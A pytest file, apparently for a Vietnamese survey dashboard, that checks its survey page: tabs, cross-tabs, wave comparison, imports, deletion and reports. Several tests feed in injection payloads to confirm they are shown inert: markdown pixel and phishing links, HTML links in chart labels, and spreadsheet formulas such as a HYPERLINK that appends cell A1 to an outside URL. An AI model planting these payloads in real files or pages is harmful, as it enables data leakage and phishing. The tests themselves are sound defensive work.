"""AppTest of the Khảo sát page: empty state, the demo survey's tabs, the cross-tab note, and who may import."""

from __future__ import annotations

import pandas as pd

from devtools import demo_survey
from tests.dashboard.conftest import no_exception, texts


def test_empty_state_points_to_the_import(env):
    env.add_users()
    at = env.page("surveys", "analyst").run()
    no_exception(at)
    assert "Chưa có khảo sát nào" in texts(at)
    assert at.expander and "Nhập khảo sát" in at.expander[0].label


def test_demo_survey_tabs(env):
    env.add_users()
    demo_survey.load(env.cfg, env.db, tag=False)
    at = env.page("surveys", "viewer").run()
    no_exception(at)
    body = texts(at)
    assert "Số phiếu 400" in body
    assert not [e for e in at.expander if "Nhập khảo sát" in e.label]           # viewers do not import
    assert "Điểm trung bình" in body                                            # Likert summary
    assert "Giáo dục" in body or "Chưa xếp chủ đề" in body or at.dataframe      # free-text themes drawn
    at.selectbox(key="sv_pick").set_value(1)
    at.selectbox(key="sv_ct_q").set_value("C6")
    at.selectbox(key="sv_ct_by").set_value("C4")
    at.run()
    no_exception(at)
    assert any("Có khác biệt có ý nghĩa thống kê theo phường nơi ở" in s.value for s in at.success)
    assert any("Phường Vàng Danh" in str(c) for df in at.dataframe for c in df.value.columns)
    (caption,) = [c.value for c in at.caption if "Số phiếu" in c.value and ":" in c.value and ";" in c.value]
    assert caption.startswith("Số phiếu mỗi nhóm: "), caption  # a group's total, not a cell's


def test_the_files_words_are_shown_as_text_not_markdown(env, tmp_path):
    """A free-text answer '![ảnh](http://…/pixel.png) [Nhấn vào đây](http://…)' made the browser fetch an
    image from another machine and showed a clickable link; question titles did the same. Each answer
    also showed a literal '<small>Tiêu cực</small>'."""
    import io
    from orchestration import surveys as importer
    from store.db import utcnow

    env.add_users()
    rows = ["Mức độ hài lòng [x](http://example.org/q),Ý kiến khác"]
    rows += [f"{['Hài lòng', 'Bình thường', 'Không hài lòng'][i % 3]},Ý kiến số {i} về học phí dạy thêm quá cao"
             for i in range(30)]
    rows.append("Hài lòng,Đồng ý ![ảnh](http://example.org/pixel.png) [Nhấn vào đây](http://example.org/phish)")
    data = io.BytesIO("\n".join(rows).encode())
    q = importer.preview("y.csv", data, env.cfg.imports).questionnaire
    importer.import_survey(env.db, env.cfg, "y.csv", data, q, title="Thử", username="hệ thống", now=utcnow(),
                           tag=False)
    at = env.page("surveys", "viewer").run()
    no_exception(at)
    shown = [m.value for m in at.markdown]
    assert any("Ý kiến số 1 về" in v for v in shown)
    assert not [v for v in shown if "](http" in v or "<small>" in v]


def test_after_an_import_the_page_shows_the_survey_just_imported(env, nlp_loaded):
    """After 'Đã nhập «…», đợt 1', the page kept showing the survey picked before, so staff read another
    survey's figures under the success message."""
    env.add_users()
    demo_survey.load(env.cfg, env.db, tag=False)
    at = env.page("surveys", "analyst").run()
    at.selectbox(key="sv_pick").set_value(1).run()
    rows = ["Mức độ hài lòng,Ý kiến khác"] + [f"{['Hài lòng', 'Bình thường'][i % 2]},ý kiến {i}" for i in range(30)]
    at.file_uploader(key="sv_file").set_value(("hai-long.csv", "\n".join(rows).encode(), "text/csv")).run()
    next(b for b in at.button if b.label == "Nhập khảo sát").click().run()
    no_exception(at)
    assert at.selectbox(key="sv_pick").value == 3
    assert any("Đã nhập «Hai long»" in s.value for s in at.success)


def test_the_files_words_in_charts_are_text_not_links(env):
    """Plotly draws '<a href=…>', '<b>' and '<br>' in axis, legend and hover labels: a survey option
    '<a href="http://…">Nhấn vào đây</a>' became a clickable link on the question's chart (and a Facebook
    page named so, on Xu hướng's outlet chart). Labels from outside are drawn as the text they are."""
    import io
    import json
    from orchestration import surveys as importer
    from store.db import utcnow

    env.add_users()
    link = '<a href="http://example.org/phish">Nhấn vào đây</a>'
    opts = ["Hài lòng", "Bình thường", link]
    rows = ["Mức độ hài lòng,Nơi ở"] + [f"{opts[i % 3]},{['Vàng Danh', '<b>Yên Thanh</b>'][i % 2]}"
                                        for i in range(60)]
    data = io.BytesIO("\n".join(rows).replace(link, '"' + link.replace('"', '""') + '"').encode())
    q = importer.preview("z.csv", data, env.cfg.imports).questionnaire
    importer.import_survey(env.db, env.cfg, "z.csv", data, q, title="Thử", username="hệ thống", now=utcnow(),
                           tag=False)
    at = env.page("surveys", "viewer").run()
    no_exception(at)
    specs = [json.dumps(json.loads(c.proto.spec), ensure_ascii=False) for c in at.get("plotly_chart")]
    assert specs and any("Nhấn vào đây" in s for s in specs)
    assert not [s for s in specs if "<a href" in s or "<b>" in s]


FORMULA_HEADER = '=HYPERLINK("http://example.org/?"&A1,"Xem")'


def _formula_survey_csv() -> bytes:
    """A survey file whose header and options would run as formulas in a spreadsheet."""
    import csv
    import io

    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")  # CRLF split this header in two: see the round-13 report
    w.writerow(["Mức độ hài lòng", FORMULA_HEADER])
    for i in range(30):
        w.writerow([["Hài lòng", "=1+2", "@SUM(A1:A9)"][i % 3], f"ý kiến {i} về học phí"])
    return out.getvalue().encode()


def test_the_questionnaire_editor_shows_the_files_formulas_inert_and_imports_them_as_they_are(env, nlp_loaded):
    """The questionnaire editor's toolbar downloads its cells as CSV: a header '=HYPERLINK(…)' or an option
    '=1+2' from the uploaded file ran as a formula when that CSV was opened. They are shown with the
    apostrophe (ui.csv_safe, as every table) and still imported as the file writes them."""
    from store import surveys as store_surveys
    from surveys.model import Questionnaire

    env.add_users()
    at = env.page("surveys", "analyst").run()
    at.file_uploader(key="sv_file").set_value(("cong-thuc.csv", _formula_survey_csv(), "text/csv")).run()
    no_exception(at)
    editor = at.get("data_editor")[0].value  # the frame the editor shows, and its toolbar downloads
    cells = [str(v) for col in editor.columns for v in editor[col]]
    assert "'" + FORMULA_HEADER in cells
    assert not [c for c in cells if c[:1] in ("=", "@") or (c[:1] in "+-" and "(" in c)], cells
    assert any("=1+2" in c for c in cells)  # the options, inert where a cell starts with one
    next(b for b in at.button if b.label == "Nhập khảo sát").click().run()
    no_exception(at)
    assert any("Đã nhập «Cong thuc»" in s.value for s in at.success), [e.value for e in at.error]
    with env.db.read() as cur:
        q = Questionnaire.from_json(store_surveys.list_surveys(cur)[-1].questionnaire)
    assert FORMULA_HEADER in [x.column for x in q.questions]
    assert {"=1+2", "@SUM(A1:A9)", "Hài lòng"} <= {o for x in q.questions for o in x.options}


def test_what_the_questionnaire_editor_gives_back_is_bounded():
    """A paste into the editor is not bounded by the page: a cell over [imports] max_cell_chars, or rows that
    are not the file's columns, are refused in Vietnamese before anything is written."""
    import pytest

    from dashboard.views.surveys import OPTIONS_COL, _editor_frame, _from_editor
    from surveys.model import Question, Questionnaire, SurveyError

    q = Questionnaire([Question("Mức độ hài lòng", "single", options=["=1+2", "Hài lòng"]),
                       Question("=HYPERLINK(\"http://example.org\")", "text")])
    shown = _editor_frame(q)
    assert list(shown[OPTIONS_COL]) == ["'=1+2 | Hài lòng", ""]
    assert shown["Cột trong tệp"][1] == "'=HYPERLINK(\"http://example.org\")"
    back = _from_editor(shown, q, 100)
    assert [x.column for x in back.questions] == ["Mức độ hài lòng", "=HYPERLINK(\"http://example.org\")"]
    assert back.questions[0].options == ["=1+2", "Hài lòng"]
    long = shown.copy()
    long.loc[1, OPTIONS_COL] = "x" * 101
    with pytest.raises(SurveyError, match="quá giới hạn 100 ký tự"):
        _from_editor(long, q, 100)
    with pytest.raises(SurveyError, match="mỗi cột một dòng"):
        _from_editor(pd.concat([shown, shown.tail(1)], ignore_index=True), q, 100)


def test_waves_are_compared_by_question_when_the_form_gained_one(env):
    """Wave 2 asks «Nghề nghiệp» after «Giới tính», shifting its codes: the Đợt tab compared wave 2's C3 with
    wave 1's C3 (another question) and showed a significant change where the answers were the same."""
    import io
    from orchestration import surveys as importer
    from store.db import utcnow

    env.add_users()

    def wave(header: str, line, name: str) -> int:
        data = io.BytesIO("\n".join([header] + [line(i) for i in range(100)]).encode())
        q = importer.preview(name, data, env.cfg.imports).questionnaire
        return importer.import_survey(env.db, env.cfg, name, data, q, title="Y tế", username="u", now=utcnow(),
                                      tag=False).survey_id

    wave("Giới tính,Có con đi học thêm?,Hài lòng với trạm y tế?",
         lambda i: f"{['Nam', 'Nữ'][i % 2]},{'Có' if i % 5 else 'Không'},{'Có' if i % 2 else 'Không'}", "d1.csv")
    w2 = wave("Giới tính,Nghề nghiệp,Có con đi học thêm?,Hài lòng với trạm y tế?",
              lambda i: f"{['Nam', 'Nữ'][i % 2]},{['Công nhân', 'Hưu trí'][i % 2]},{'Có' if i % 5 else 'Không'},"
                        f"{'Có' if i % 2 else 'Không'}", "d2.csv")
    at = env.page("surveys", "viewer").run()
    at.selectbox(key="sv_pick").set_value(w2)
    at.run()
    no_exception(at)
    waves = [df.value for df in at.dataframe if "Khác biệt có ý nghĩa" in df.value.columns]
    assert len(waves) == 2 and all((w["Khác biệt có ý nghĩa"] == "").all() for w in waves)


def test_an_admin_deletes_a_wrong_import_and_it_is_audited(env):
    """A wrong import (or an export to be replaced by a longer one) could not be undone on the page."""
    import io
    from orchestration import surveys as importer
    from store import users as store_users
    from store.db import utcnow

    env.add_users()
    data = io.BytesIO("\n".join(["Giới tính,Hài lòng?"] + [f"{['Nam', 'Nữ'][i % 2]},Có" for i in range(10)]).encode())
    q = importer.preview("sai.csv", data, env.cfg.imports).questionnaire
    importer.import_survey(env.db, env.cfg, "sai.csv", data, q, title="Nhập nhầm", username="u", now=utcnow(), tag=False)
    at = env.page("surveys", "analyst").run()
    assert not [e for e in at.expander if "Xóa khảo sát" in e.label]
    at = env.page("surveys", "admin").run()
    at.checkbox(key="sv_del_ok_1").check().run()
    at.button(key="sv_del_1").click().run()
    no_exception(at)
    assert "Chưa có khảo sát nào" in texts(at)
    with env.db.read() as cur:
        assert cur.execute("SELECT count(*) FROM survey_answers").fetchone()[0] == 0
        assert [a["username"] for a in store_users.list_audit(cur) if a["action"] == "survey_delete"] == ["quantri"]


def test_the_crosstab_pickers_are_kept_across_a_visit_to_another_page(env):
    """Khảo sát's «Câu hỏi» and «Theo» of the cross-tab went back to the first Likert question and the ward after a
    look at another page (Streamlit drops a widget's state in a run that does not draw it); `ui.keep` holds them."""
    from tests.dashboard.test_pages import _away_and_back

    demo_survey.load(env.cfg, env.db, tag=False)
    at = _away_and_back("surveys", {"sv_pick": 1}, {})
    assert (at.selectbox(key="sv_ct_q").value, at.selectbox(key="sv_ct_by").value) == ("C6", "C4")  # the defaults
    at = _away_and_back("surveys", {"sv_pick": 1}, {"sv_ct_q": "C9", "sv_ct_by": "C1"})
    assert at.selectbox(key="sv_ct_q").value == "C9" and at.selectbox(key="sv_ct_by").value == "C1"
    assert not at.warning


def test_a_survey_report_is_said_made_and_offered_under_its_own_survey_only(env):
    """«Lập báo cáo khảo sát» showed the two download buttons and no line saying the report was made; and the files
    stayed under every survey picked after, so staff could download wave 1's report under wave 2's title (round 25)."""
    demo_survey.load(env.cfg, env.db, tag=False)
    at = env.page("surveys", "analyst").run()
    at.selectbox(key="sv_pick").set_value(1).run()
    at.button(key="sv_report").click().run()
    no_exception(at)
    assert [s.value for s in at.success if s.value.startswith("Đã lập báo cáo khảo sát trong ")], [s.value for s in at.success]
    at.selectbox(key="sv_pick").set_value(2).run()  # the demo's second wave
    no_exception(at)
    assert not [s.value for s in at.success if "Đã lập báo cáo" in s.value]
